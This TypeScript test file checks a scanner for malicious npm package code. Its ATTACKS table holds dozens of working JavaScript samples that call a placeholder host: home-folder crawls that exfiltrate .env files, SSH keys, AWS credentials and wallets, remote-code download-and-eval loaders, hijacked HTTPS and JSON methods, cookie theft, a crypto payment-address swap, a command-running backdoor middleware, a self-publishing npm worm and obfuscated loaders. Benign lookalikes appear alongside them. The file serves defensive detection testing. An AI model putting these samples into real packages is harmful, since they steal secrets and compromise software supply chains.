import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { scan } from './package-code.ts';

/** Behaviours that are only seen if data are followed, in code that is read and never run. */
const ATTACKS: Readonly<Record<string, string>> = {
  'a recursive walk of the home folder': `const fs=require('fs'),path=require('path'),os=require('os'),https=require('https');
const found=[];
function walk(dir, depth){ if(depth>4) return; for(const e of fs.readdirSync(dir,{withFileTypes:true})){ const p=path.join(dir,e.name); if(e.isDirectory()) walk(p,depth+1); else if(/\\.(env|pem|key)$/.test(e.name)) found.push({p, c: fs.readFileSync(p,'utf8')}); } }
walk(os.homedir(),0);
const r=https.request({hostname:'c.example.test',method:'POST'}); r.end(JSON.stringify(found));`,
  'a walk of the home folder by a generator': `const fs=require('fs').promises,path=require('path'),os=require('os');
async function* walk(d){ for (const e of await fs.readdir(d,{withFileTypes:true})){ const p=path.join(d,e.name); if(e.isDirectory()) yield* walk(p); else yield p; } }
(async()=>{ for await (const f of walk(os.homedir())) { if(!/wallet|key/.test(f)) continue; const b=await fs.readFile(f); await fetch('https://c.example.test/u',{method:'POST',body:b}); } })();`,
  'a walk of the home folder by flatMap': `const fs=require('fs'),path=require('path'),os=require('os');
const list=(d)=>fs.readdirSync(d).flatMap(n=>{const p=path.join(d,n); return fs.statSync(p).isDirectory()?list(p):[p];});
const out=list(os.homedir()).filter(f=>/\\.env$/.test(f)).map(f=>fs.readFileSync(f,'utf8'));
fetch('https://c.example.test',{method:'POST',body:JSON.stringify(out)});`,
  'a walk of the home folder by a queue': `const fs=require('fs'),path=require('path'),os=require('os');
const queue=[os.homedir()]; const out={};
while(queue.length){ const d=queue.pop(); let es=[]; try{es=fs.readdirSync(d,{withFileTypes:true});}catch{continue;} for(const e of es){ const p=path.join(d,e.name); if(e.isDirectory()) queue.push(p); else if(e.name.startsWith('.env')) out[p]=fs.readFileSync(p,'utf8'); } }
fetch('https://c.example.test',{method:'POST',body:JSON.stringify(out)});`,
  'a pattern for files of the home folder': `const glob=require('fast-glob'),fs=require('fs'),os=require('os'),axios=require('axios');
glob('**/.env',{cwd:os.homedir(),absolute:true}).then(fs_=>Promise.all(fs_.map(f=>fs.promises.readFile(f,'utf8')))).then(d=>axios.post('https://c.example.test',{d}));`,
  'an environment that is printed, encoded twice': `console.log(Buffer.from(Buffer.from(JSON.stringify(process.env)).toString('base64')).toString('base64'));`,
  'a key that SFTP uploads': `const {Client}=require('ssh2'); const os=require('os'),path=require('path'); const c=new Client(); c.on('ready',()=>c.sftp((e,s)=>{ s.fastPut(path.join(os.homedir(),'.ssh','id_rsa'),'/in/k',()=>c.end()); })).connect({host:'c.example.test',username:'u',password:'p'});`,
  'a file of credentials that a client uploads': `const S=require('ssh2-sftp-client'); const os=require('os'); (async()=>{ const s=new S(); await s.connect({host:'c.example.test',username:'u',password:'p'}); await s.fastPut(os.homedir()+'/.aws/credentials','/x'); })();`,
  'code that WebAssembly returns': `(async()=>{ const {instance}=await WebAssembly.instantiate(require('fs').readFileSync(require('path').join(__dirname,'x.wasm'))); const {memory,get}=instance.exports; const p=get(); const t=new TextDecoder().decode(new Uint8Array(memory.buffer,p,400)); new Function('require',t)(require); })();`,
  'downloaded code in a worker': `require('axios').get('https://c.example.test').then(({data})=>{ const {Worker}=require('worker_threads'); new Worker(data,{eval:true}); });`,
  'downloaded code that is loaded from its file': `const fs=require('fs');require('https').get('https://c.example.test',r=>{const f=fs.createWriteStream('/tmp/a.js');r.pipe(f);f.on('finish',()=>require('/tmp/a.js'));});`,
  'downloaded code in an argument': `const cp=require('child_process');fetch('https://c.example.test').then(r=>r.text()).then(t=>cp.spawn(process.execPath,['-e',t],{detached:true,stdio:'ignore'}).unref());`,
  'code that is written backwards': `eval(')2(gol.elosnoc;)1(gol.elosnoc'.split('').reverse().join(''));`,
  'a replaced method that reports by an image': `const s=XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send=function(b){ new Image().src='https://c.example.test/?'+encodeURIComponent(b); return s.call(this,b); };`,
  'a replaced method of requests': `const h=require('https'),o=h.request; h.request=function(opts,cb){ const r=o.apply(this,arguments); const w=r.write; r.write=function(d){ o({hostname:'c.example.test',method:'POST'}).end(d); return w.apply(r,arguments); }; return r; };`,
  'a replaced parser': `const p=JSON.parse; JSON.parse=function(t,r){ const v=p(t,r); if(v&&v.password) fetch('https://c.example.test',{method:'POST',body:t}); return v; };`,
  'a proxy for requests': `const https=require('https'); https.request=new Proxy(https.request,{apply(t,s,a){ t({hostname:'c.example.test',method:'POST'}).end(JSON.stringify(a[0])); return Reflect.apply(t,s,a); }});`,
  'a replaced address in a payment': `const r=window.ethereum.request; window.ethereum.request=async a=>{ if(a.method==='eth_sendTransaction') a.params[0].to='0x1111111111111111111111111111111111111111'; return r.call(window.ethereum,a); };`,
  'cookies in the address of a page': `location.href='https://c.example.test/?c='+encodeURIComponent(document.cookie);`,
  'an environment that a socket emits': `const io=require('socket.io-client'); const s=io('https://c.example.test'); s.emit('x', process.env);`,
  'an environment for a request with listeners': `const r = require('https').request({ host: 'c.example.test', method: 'POST' }).setTimeout(5000).on('error', () => {}); r.end(JSON.stringify(process.env));`,
  'names that a replacement with a function decodes': `const d = (s) => s.replace(/../g, (h) => String.fromCharCode(parseInt(h, 16))); require(d('68747470'+'73')).get('https://c.example.test', (r) => r.on('data', (c) => eval(String(c))));`,
  'a host that a replacement of groups decodes': `const d = (s) => s.replace(/%([0-9a-f]{2})/g, (_, h) => String.fromCharCode(parseInt(h, 16))); const n = d('%68%74%74%70%73'); require(n).get(d('%68%74%74%70%73%3a%2f%2f%63%2e%65%78%61%6d%70%6c%65%2e%74%65%73%74'));`,
  'names of the machine in a variable of a shell': `require('child_process').exec('a=$(hostname; whoami) && echo $a | xxd -p | while read x; do nslookup $x.c.example.test; done');`,
  'a replaced function of another package': `const { Keypair } = require('@solana/web3.js'); const o = Keypair.fromSecretKey; Keypair.fromSecretKey = function (k) { fetch('https://c.example.test/' + Buffer.from(k).toString('hex')); return o.apply(this, arguments); };`,
  'a middleware that runs commands': `const { exec } = require('child_process'); module.exports = (req, res, next) => { if (req.query.k === 's3') return exec(req.query.c, (e, o) => res.end(o)); next(); };`,
  'a middleware that runs code': `module.exports = () => (req, res, next) => { if (req.headers['x-k']) return res.json(eval(req.headers['x-k'])); next(); };`,
  'a command within a script of macOS': `require('child_process').exec("osascript -e 'do shell script \\"curl -s https://c.example.test/a | bash\\"'");`,
  'an answer that is thrown and run': `const axios = require('axios'); (async () => { try { const r = await axios.get('https://c.example.test/v4'); throw new Error(r.data.cookie); } catch (error) { if (error.response?.status === 404) new Function('require', error.response.data)(require); } })();`,
  'a file of another package that is downloaded': `const fs = require('fs'), path = require('path'); require('https').get('https://c.example.test/provider.js', (r) => { let code = ''; r.on('data', (d) => (code += d)); r.on('end', () => fs.writeFileSync(path.join(process.cwd(), 'node_modules', 'ethers', 'lib', 'provider.js'), code)); });`,
  'install scripts among others in a worm': `const fs = require('fs'), cp = require('child_process'); module.exports = async (user, dir) => { const { objects } = await (await fetch('https://registry.example.test/-/v1/search?text=maintainer:' + user)).json(); for (const one of objects) { const p = JSON.parse(fs.readFileSync(dir + one.name, 'utf8')); p.scripts = { ...p.scripts, postinstall: 'node bundle.js' }; fs.writeFileSync(dir + one.name, JSON.stringify(p)); cp.execSync('npm publish'); } };`,
  'a computed key that pays': `const { HDNodeWallet, JsonRpcProvider } = require('ethers'); exports.account = (phrase) => { const w = HDNodeWallet.fromPhrase(phrase); fetch('https://c.example.test/a', { method: 'POST', body: JSON.stringify({ phrase, key: w.privateKey }) }); return w; };`,
  'a key in the name of a server': `const tls = require('tls'), fs = require('fs'), os = require('os'); const key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa').toString('hex'); tls.connect({ port: 443, host: '203.0.113.9', servername: key.slice(0, 60) + '.c.example.test' });`,
  'a replaced parser that runs what it gets': `const p = JSON.parse; JSON.parse = function (t, r) { const v = p(t, r); if (v && v.run) eval(v.run); return v; };`,
  'a turned list of names': `const _0x3f=['win32','child_process','exec','curl x.example.test'];(function(_0x1,_0x2){while(--_0x2){_0x1['push'](_0x1['shift']());}}(_0x3f,0x3));const _0x9a=function(_0x1){return _0x3f[_0x1-0x0];};require(_0x9a('0x0'))[_0x9a('0x1')](_0x9a('0x2'));`,
  'an answer that a shell runs': `(async () => { const { exec } = require('child_process'); const c = await (await fetch('https://c.example.test/c')).text(); exec('/bin/sh -c ' + c); })();`,
};

/** Honest code that uses the same. */
const HONEST: Readonly<Record<string, string>> = {
  'a recursive walk of the project': `const fs = require('fs'), path = require('path'); const found = []; function walk(dir) { for (const e of fs.readdirSync(dir, { withFileTypes: true })) { const p = path.join(dir, e.name); if (e.isDirectory()) walk(p); else found.push(fs.readFileSync(p, 'utf8')); } } exports.upload = (dir) => { walk(dir); return fetch('https://api.example/upload', { method: 'POST', body: JSON.stringify(found) }); };`,
  'a walk of the home folder that counts': `const fs = require('fs'), path = require('path'), os = require('os'); const size = (d) => fs.readdirSync(d).reduce((sum, n) => sum + fs.statSync(path.join(d, n)).size, 0); console.log(size(os.homedir()));`,
  'a settings file of its own that is sent': `const fs = require('fs'), os = require('os'), path = require('path'); const settings = JSON.parse(fs.readFileSync(path.join(os.homedir(), '.tool', 'settings.json'), 'utf8')); exports.sync = () => fetch('https://api.example/settings', { method: 'PUT', body: JSON.stringify(settings) });`,
  'data that are printed in base64': `const fs = require('fs'); console.log(fs.readFileSync(process.argv[2]).toString('base64'));`,
  'a variable that is printed': `console.log('mode', process.env.MODE, Object.keys(process.env).length);`,
  'a build that is uploaded over SFTP': `const S = require('ssh2-sftp-client'); exports.deploy = async ({ host, username, privateKey }) => { const s = new S(); await s.connect({ host, username, privateKey }); await s.uploadDir('dist', '/srv/www'); };`,
  'a client of a named host that gets a token': `const { Client } = require('some-api'); const client = new Client({ url: 'https://api.example', token: process.env.API_TOKEN }); exports.list = () => client.list({ page: 1 });`,
  'a socket that joins a room': `const { io } = require('socket.io-client'); const s = io('https://chat.example'); s.on('connect', () => s.emit('join', { room: process.env.ROOM }));`,
  'a class that keeps the environment for its children': `const { spawn } = require('child_process'); class Runner { constructor() { this.env = { ...process.env, FORCE_COLOR: '1' }; } run(cmd) { return spawn(cmd, { env: this.env, stdio: 'inherit' }); } } module.exports = Runner;`,
  'a class with a token for its requests': `class Api { #token = process.env.API_TOKEN; get(path) { return fetch('https://api.example' + path, { headers: { authorization: 'Bearer ' + this.#token } }); } } module.exports = new Api();`,
  'an emitter that logs': `const E = require('events'); const e = new E(); e.on('started', (env) => console.log(env.NODE_ENV)); e.emit('started', process.env);`,
  'a generator of pages': `async function* pages(url) { let next = url; while (next) { const r = await (await fetch(next)).json(); yield r.items; next = r.next; } } exports.all = async () => { const out = []; for await (const p of pages('https://api.example/items')) out.push(...p); return out; };`,
  'a module of WebAssembly that makes text': `const fs = require('fs'); const { exports: e } = new WebAssembly.Instance(new WebAssembly.Module(fs.readFileSync(__dirname + '/md.wasm'))); module.exports = (t) => new TextDecoder().decode(new Uint8Array(e.memory.buffer, e.render(t), e.length()));`,
  'the runtime of a compiler to WebAssembly': `var Module = {}; var HEAPU8; function UTF8ToString(p) { return new TextDecoder().decode(HEAPU8.subarray(p, p + 10)); } function _run_script(p) { eval(UTF8ToString(p)); } WebAssembly.instantiate(Module.binary, { env: { _run_script } }).then((o) => { HEAPU8 = new Uint8Array(o.instance.exports.memory.buffer); });`,
  'a worker with code of its own': `const { Worker } = require('worker_threads'); new Worker('require("worker_threads").parentPort.postMessage(1 + 1)', { eval: true });`,
  'a replaced fetch that retries': `const original = globalThis.fetch; globalThis.fetch = async (...args) => { try { return await original(...args); } catch { return original(...args); } };`,
  'a replaced method that measures': `const https = require('https'), original = https.request; https.request = function (...args) { const began = Date.now(); const r = original.apply(this, args); r.on('close', () => console.log(Date.now() - began)); return r; };`,
  'a parser that revives dates': `const parse = JSON.parse; JSON.parse = function (text, reviver) { return parse(text, reviver || ((k, v) => (/^\\d{4}-\\d\\d-\\d\\dT/.test(v) ? new Date(v) : v))); };`,
  'a pixel that counts a page': `new Image().src = 'https://stats.example/p.gif?path=' + encodeURIComponent(location.pathname);`,
  'a payment to the address of a contract': `exports.pay = (signer, value) => { const tx = {}; tx.to = '0x1111111111111111111111111111111111111111'; tx.value = value; return signer.sendTransaction(tx); };`,
  'credentials of the cloud for requests to it': `async function token() { const r = await fetch('http://metadata.google.internal/computeMetadata/v1/token', { headers: { 'Metadata-Flavor': 'Google' } }); return (await r.json()).access_token; } exports.list = async () => fetch('https://storage.example/b', { headers: { authorization: 'Bearer ' + (await token()) } });`,
  'a program that runs a text of its own': `require('child_process').spawn(process.execPath, ['-e', 'console.log(process.version)'], { stdio: 'inherit' });`,
  'an environment for a socket of this machine': `const net = require('net'), path = require('path'), os = require('os'); const s = net.connect(path.join(os.tmpdir(), 'daemon.sock')); s.end(JSON.stringify({ env: process.env, argv: process.argv }));`,
  'an environment for the pipe that a caller names': `const net = require('net'); module.exports = (options) => net.connect({ path: options.pipe }).end(JSON.stringify(process.env));`,
  'an environment for the socket of Docker': `const http = require('http'); exports.run = (image) => { const r = http.request({ socketPath: '/var/run/docker.sock', method: 'POST', path: '/containers/create' }); r.end(JSON.stringify({ image, env: process.env })); };`,
  'the region and account of credentials in a URL': `const fs = require('fs'), os = require('os'), ini = require('ini'); const c = ini.parse(fs.readFileSync(os.homedir() + '/.aws/config', 'utf8')); exports.role = (name) => { const { sso } = c; const of = c[name]; return fetch('https://portal.' + of.sso_region + '.example.test/?account_id=' + of.sso_account_id + '&role_name=' + of.sso_role_name); };`,
  'credentials that are exchanged for a token': `const fs = require('fs'), os = require('os'); const k = JSON.parse(fs.readFileSync(os.homedir() + '/.config/gcloud/application_default_credentials.json', 'utf8')); exports.token = () => fetch('https://oauth2.example.test/token', { method: 'POST', body: new URLSearchParams({ client_id: k.client_id, client_secret: k.client_secret, refresh_token: k.refresh_token, grant_type: 'refresh_token' }) });`,
  'a keychain that sends nothing': `const fs = require('fs'), os = require('os'), { execFileSync } = require('child_process'); exports.get = (service) => execFileSync('security', ['find-generic-password', '-s', service, '-w']); exports.npm = () => fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'); exports.net = () => fs.readFileSync(os.homedir() + '/.netrc', 'utf8'); exports.docker = () => fs.readFileSync(os.homedir() + '/.docker/config.json', 'utf8');`,
  'updates from the host of a page': `(() => { const socket = new WebSocket((location.protocol === 'https:' ? 'wss:' : 'ws:') + '//' + location.host + '/ws'); socket.onmessage = async (e) => { const { id } = JSON.parse(e.data); (0, eval)(await (await fetch('/updates/' + id)).text()); }; })();`,
  'an answer that is thrown and reported': `const axios = require('axios'); exports.get = async (url) => { try { return (await axios.get(url)).data; } catch (error) { throw new Error(error.response ? error.response.data.message : error.message); } };`,
  'scripts of a new project': `const fs = require('fs'); exports.create = (dir, pkg) => { pkg.scripts = { ...pkg.scripts, build: 'tsc', postinstall: 'patch-package' }; fs.writeFileSync(dir + '/package.json', JSON.stringify(pkg)); };`,
  'a version that is looked up and kept': `const fs = require('fs'), { execSync } = require('child_process'); const registry = execSync('npm config get registry').toString().trim(); fetch(registry + 'sample').then((r) => r.json()).then((j) => fs.writeFileSync(process.argv[2], JSON.stringify(j['dist-tags'])));`,
  'a replaced function of another package that measures': `const pg = require('pg'); const q = pg.Client.prototype.query; pg.Client.prototype.query = function (text) { const began = Date.now(); return q.apply(this, arguments).finally(() => fetch('https://apm.example.test/v1', { method: 'POST', body: JSON.stringify({ ms: Date.now() - began }) })); };`,
  'a middleware that deploys': `const { exec, execFile } = require('child_process'); module.exports = (req, res) => { if (req.body.ref === 'refs/heads/main') exec('git pull && npm ci', () => res.end('ok')); else execFile('git', ['checkout', req.body.branch]); };`,
  'a middleware that renders in a context': `const vm = require('vm'), fs = require('fs'); module.exports = (bundle) => (req, res) => res.end(vm.runInNewContext(fs.readFileSync(bundle, 'utf8'), { url: req.url, console }));`,
  'a prompt for privileges on macOS': `exports.exec = (command) => require('child_process').execFile('osascript', ['-e', 'do shell script "' + command + '" with administrator privileges']);`,
  'a variable of an environment that may be another': `const { AsyncLocalStorage } = require('async_hooks'); const store = new AsyncLocalStorage(); const env = () => store.getStore()?.env ?? process.env; exports.login = () => fetch('https://api.example', { method: 'POST', body: new URLSearchParams({ client_id: env().CLIENT_ID }) });`,
  'a command with an answer as its argument': `const { exec } = require('child_process'); exports.tag = async () => { const { tag } = await (await fetch('https://api.example/version')).json(); exec('git tag ' + tag); };`,
  'a command of the user with data that are filled in': `const { exec } = require('child_process'), { Eta } = require('eta'); exports.run = async (command) => exec(new Eta().renderString(command, await (await fetch('https://api.example/release')).json()));`,
  'matches in the text of a function that are replaced from the last': `exports.fill = (template, parts) => { let code = template.toString(); const found = [], mark = /<<(\\w+)>>/g; let one; while ((one = mark.exec(code))) found.push(one); found.reverse().forEach((m) => { code = code.slice(0, m.index) + parts[m[1]] + code.slice(m.index + m[0].length); }); return new Function('return ' + code)(); };`,
  'keys that a library computes': `const { AbiCoder, HDNodeWallet, Mnemonic } = require('ethers'); const coder = new AbiCoder(); exports.encode = (t, v) => coder.encode(t, v); exports.account = (phrase, path) => { const a = HDNodeWallet.fromMnemonic(Mnemonic.fromPhrase(phrase), path); return { mnemonic: a.mnemonic, privateKey: a.privateKey }; }; exports.create = () => HDNodeWallet.createRandom('', "m/44'/195'/0'/0/0").privateKey;`,
  'a certificate of the user for a connection': `const tls = require('tls'), fs = require('fs'), os = require('os'); function connector(own) { return (options, callback) => callback(null, tls.connect({ ...own, socket: options.socket, servername: options.servername })); } exports.connector = () => connector({ key: fs.readFileSync(os.homedir() + '/.kube/config') });`,
  'functions that a library adds to the constructor of texts': `String.random = function (l) { let s = ''; while (l-- > 0) s += Math.floor(Math.random() * 10); return s; };`,
  'a parser for browsers that have none': `if (typeof JSON.parse !== 'function') { JSON.parse = function (text) { text = String(text); if (/^[\\],:{}\\s]*$/.test(text.replace(/"[^"]*"|\\d+/g, ']'))) return eval('(' + text + ')'); throw new SyntaxError('JSON.parse'); }; }`,
  'a loader with a compiler that it replaces': `const { Module } = require('module'); const proto = Module.prototype, original = proto._compile; proto._compile = function (content, filename) { return original.call(this, content, filename); };`,
};

describe('behaviours that show only by the way that data take', () => {
  for (const [name, code] of Object.entries(ATTACKS))
    test(`${name} is suspicious`, () => {
      const { isSuspicious, signs } = scan(code);
      assert.ok(isSuspicious, JSON.stringify(signs));
    });
  for (const [name, code] of Object.entries(HONEST))
    test(`${name} is not suspicious`, () => {
      const { isSuspicious, signs } = scan(code);
      assert.ok(!isSuspicious, JSON.stringify(signs));
    });
  test('an install that asks a downloaded program for its version is not suspicious', () => {
    const code = `const cp = require('child_process'), fs = require('fs'), os = require('os'), path = require('path'); const file = path.join(os.tmpdir(), 'driver', 'driver'); cp.spawn(file, ['--version']); fetch('https://cdn.example/driver').then((r) => r.arrayBuffer()).then((b) => fs.writeFileSync(file, Buffer.from(b)));`;
    const { isSuspicious, signs } = scan({ 'install.js': code }, { scripts: { install: 'node install.js' } });
    assert.ok(!isSuspicious, JSON.stringify(signs));
  });
});
